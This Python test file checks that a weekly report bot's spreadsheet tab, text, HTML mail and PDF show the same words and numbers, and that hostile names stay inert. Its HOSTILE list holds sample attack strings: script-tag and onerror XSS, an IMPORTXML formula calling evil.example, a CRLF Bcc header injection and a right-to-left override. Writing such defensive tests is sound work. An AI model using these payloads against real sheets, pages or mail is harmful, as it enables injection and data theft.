"""Tab, mail and PDF of the weekly report say the same words and numbers, whatever stands in them."""

import re
import tomllib
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pypdfium2 as pdfium
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report_stand import (
    DAY,
    WEEK,
    a_dispute,
    a_report,
    late_tabs,
    quiet_tabs,
)
from sheets_bot.documents.charts_png import chart_png
from sheets_bot.documents.report_pdf import report_pdf
from sheets_bot.domain.report.as_html import as_html
from sheets_bot.domain.report.as_text import as_text
from sheets_bot.domain.report.report import (
    Chart,
    Line,
    Report,
    Section,
    Sentence,
)
from sheets_bot.domain.report.report_rows import report_in, report_rows
from sheets_bot.sheets.cells import clean_text, writer
from sheets_bot.sheets.schema import TabSchema

SCHEMA = Path(__file__).parents[2] / "sheet_schemas" / "weekly_report.toml"
PERCENT = re.compile(r"\d %")


class Words(HTMLParser):
    """What a reader of the HTML sees, and what stands instead of pictures."""

    def __init__(self) -> None:
        super().__init__()
        self.text, self.pictures, self.tags = "", [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "img":
            self.pictures.append(dict(attrs))

    def handle_data(self, data):
        self.text += data


def squeezed(text: str) -> str:
    """Without blanks: programs break lines where they like."""
    return "".join(text.split())


def seen_in_html(report: Report) -> Words:
    words = Words()
    words.feed(as_html(report, lambda place: f"cid:{place}"))
    return words


def seen_in_pdf(report: Report) -> str:
    document = pdfium.PdfDocument(report_pdf(report))
    try:
        return squeezed("".join(page.get_textpage().get_text_bounded() for page in document))
    finally:
        document.close()


def through_the_tab(report: Report) -> Report | None:
    """As the sheet gives it back."""
    schema = TabSchema.model_validate(tomllib.loads(SCHEMA.read_text()))
    rows = {}
    for row in report_rows(report):
        assert row.values.keys() == {column.name for column in schema.column if column.owner == "bot"}
        for name, value in row.values.items():
            writer(schema.by_name[name].type, ZoneInfo("UTC"))(value)
        rows[row.key] = {name: clean_text(v) if isinstance(v, str) else v for name, v in row.values.items()}
    return report_in(rows, report.week, workbook=report.workbook)


def every_word(report: Report) -> list[str]:
    told = [one.text for section in report.sections for one in section.sentences]
    titles = [section.title for section in report.sections]
    return [report.title, *titles, *told, *(f"{chart.title}. {chart.says}" for chart in report.charts)]


@pytest.mark.parametrize("tabs", [quiet_tabs(), late_tabs(), {}], ids=["quiet", "a change", "nothing known"])
def test_tab_text_html_and_pdf_say_the_same(tabs):
    composed = a_report(tabs)

    report = through_the_tab(composed)

    assert report == composed
    text, html, pdf = squeezed(as_text(report)), squeezed(seen_in_html(report).text), seen_in_pdf(report)
    for said in every_word(report):
        assert squeezed(said) in pdf
        assert squeezed(said) in html
        assert squeezed(said).casefold() in text.casefold()


def test_the_three_have_no_number_that_the_tab_has_not():
    report = a_report()
    known = set(re.findall(r"\d+", " ".join(every_word(report))))
    rests = {
        n
        for section in report.sections
        for one in section.sentences
        for r in one.rests_on
        for n in re.findall(r"\d+", r)
    }
    count = sum(len(section.sentences) for section in report.sections)

    for shown in (as_text(report), seen_in_html(report).text):
        assert set(re.findall(r"\d+", shown)) <= known | rests | {str(n) for n in range(1, count + 1)}


def test_equal_tabs_make_equal_files():
    first, second = a_report(), a_report()

    assert report_pdf(first) == report_pdf(second)
    assert [chart_png(chart) for chart in first.charts] == [chart_png(chart) for chart in second.charts]


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=IMPORTXML("http://evil.example")',
    "Líeferant ©  \u202egnol\u202c & Söhne",
    "a\r\nBcc: x@evil.example",
    "☃" * 400,
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_text_everywhere(name):
    """It may be a supplier's, a brand's, a reason: nobody outside can put a tag or a link into the report."""
    tabs = late_tabs()
    for row in tabs["Parcels"].values():
        row["supplier"] = row["supplier"].replace("Supplier East", name)
    tabs["Disputes"] = {
        "PP-D-9": a_dispute(brand=name, reason=name, advice="Ask the owner", owner_decision="")
    }

    report = through_the_tab(a_report(tabs))

    words = seen_in_html(report)
    assert "script" not in words.tags
    assert {picture["src"] for picture in words.pictures} == {f"cid:{n}" for n in range(len(report.charts))}
    assert "href" not in as_html(report, str)
    assert report_pdf(report).startswith(b"%PDF")
    assert all(chart_png(chart) for chart in report.charts)
    assert "\r" not in as_text(report)
    assert "\u202e" not in as_text(report) + as_html(report, str)


@given(st.text(max_size=80), st.text(max_size=40))
@settings(max_examples=30, deadline=None)
def test_any_text_can_be_shown(text, name):
    chart = Chart(name, text, (WEEK, WEEK + 7 * DAY), (Line(name, (Decimal(1), None)),))
    report = Report(WEEK, "shared", (Section(name or "x", (Sentence(text, (name,)),)),), (chart,))

    assert report_pdf(report)
    assert chart_png(chart)
    assert as_text(report)
    words = seen_in_html(report)
    assert set(words.tags) <= {
        "html",
        "head",
        "meta",
        "title",
        "body",
        "table",
        "tr",
        "td",
        "h1",
        "h2",
        "div",
        "ol",
        "ul",
        "li",
        "img",
        "p",
    }


def test_a_picture_whose_numbers_somebody_changed_is_left_out():
    report = a_report()
    rows = {row.key: dict(row.values) for row in report_rows(report)}
    pictures = [row for row in rows.values() if row["picture"]]
    for row, spoilt in zip(pictures, ("no json", "[]", '{"weeks": []}', '{"title": 1}'), strict=False):
        row["picture"] = spoilt

    found = report_in(rows, WEEK, workbook="shared")

    assert found.sections == report.sections
    assert len(found.charts) == len(report.charts) - min(len(pictures), 4)
